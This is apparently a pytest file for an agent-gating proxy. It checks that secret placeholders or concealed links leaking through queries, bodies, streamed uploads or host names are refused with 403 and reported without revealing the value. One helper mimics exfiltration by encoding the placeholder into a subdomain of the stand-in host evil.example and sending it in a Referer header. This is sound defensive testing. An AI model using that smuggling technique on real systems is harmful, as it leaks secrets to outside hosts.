"""Whatever way misuse of a placeholder or a code is seen, people are told of it, and never of the value."""

from __future__ import annotations

import json
from typing import Any

import pytest
from wharfinger.deciding.misuses import Alert

NOWHERE = "the request holds the placeholder for EXAMPLE_KEY where it does not belong"


@pytest.fixture
async def watched(start: Any) -> Any:
    async with start() as proxy:
        proxy.alerts = []
        proxy.runtime.gate.misuses.watch(proxy.alerts.append)
        yield proxy


def told(proxy: Any) -> list[tuple[str, str, int]]:
    alerts: list[Alert] = proxy.alerts
    return [(each.agent, each.reason, each.count) for alert in alerts for each in alert.found]


async def in_the_query(proxy: Any) -> Any:
    return await proxy.request("GET", f"/items/1?note={proxy.placeholder()}")


async def in_a_host_name(proxy: Any) -> Any:
    host = f"{proxy.placeholder().replace('_', '-')}.{proxy.placeholder()}.evil.example"
    tunnel = await proxy.connect("evil.example")
    return await tunnel.request("GET", "/", [("Referer", f"https://{host}/")], host="evil.example", key=False)


async def in_a_body(proxy: Any) -> Any:
    body = json.dumps({"name": proxy.placeholder()}).encode()
    return await proxy.request("POST", "/items", [("Content-Type", "application/json")], body)


async def in_a_streamed_body(proxy: Any) -> Any:
    tunnel = await proxy.connect("files.example.com")
    body = b"x" * 5000 + proxy.placeholder().encode() + b"y" * 5000
    return await tunnel.request("PUT", "/upload/a", [], body, host="files.example.com")


async def a_link(proxy: Any) -> Any:
    await proxy.runtime.live.secrets.conceal({"wl_AAAAAAAAAAAAAAAAAAAA": "a link"})
    return await proxy.request("GET", "/items/1?note=wl_AAAAAAAAAAAAAAAAAAAA")


WAYS = {
    "in the query": (in_the_query, NOWHERE),
    "in a field that names a host": (in_a_host_name, NOWHERE),
    "in a body": (in_a_body, NOWHERE),
    "in a streamed body": (in_a_streamed_body, "a placeholder stood in the streamed body"),
    "a link": (a_link, "the request holds a link or a code that people decide by"),
}


@pytest.mark.parametrize("way", WAYS)
async def test_people_are_told_at_once_and_the_book_has_it(watched: Any, way: str) -> None:
    send, reason = WAYS[way]
    answered = await send(watched)
    assert answered.status == 403
    assert answered.code == "misuse"
    events = await watched.settled()
    assert told(watched) == [("bot", reason, 1)]
    (notice,) = [event for event in events if event.get("action") == "agents.misuse"]
    assert (notice["kind"], notice["agent"], notice["reason"]) == ("notice", "bot", reason)
    assert notice["detail"] == {"count": 1, "decision": answered.decision, "sum": False}
    refusal = next(event for event in events if event.get("decision") == answered.decision)
    identity = {"agent", "agent_id", "run", "identified_by", "confinement"}
    assert {key: notice.get(key) for key in identity} == {key: refusal.get(key) for key in identity}
    assert notice["identified_by"] == "token"
    held = watched.placeholder()
    assert held not in repr(watched.alerts)
    assert held.encode() not in answered.body
    assert held not in repr([event for event in events if event["kind"] == "notice"])


async def test_many_are_told_once_and_as_a_sum(watched: Any) -> None:
    tunnel = await watched.connect()
    for _ in range(20):
        answered = await tunnel.request("GET", f"/items/1?note={watched.placeholder()}")
        assert answered.code == "misuse"
    assert told(watched) == [("bot", NOWHERE, 1)]
    watched.runtime.gate.misuses._sum()
    assert told(watched)[1:] == [("bot", NOWHERE, 19)]
    notices = [event for event in await watched.settled() if event.get("action") == "agents.misuse"]
    assert [each["detail"]["count"] for each in notices] == [1, 19]


async def test_what_is_refused_for_another_reason_alarms_nobody(watched: Any) -> None:
    """The control: a request that no policy lets out, and one that is let out."""
    assert (await watched.request("DELETE", "/items/1")).status == 403
    assert (await watched.request("GET", "/items/1")).status == 200
    assert (await watched.request("GET", "/nowhere")).status == 403
    assert told(watched) == []
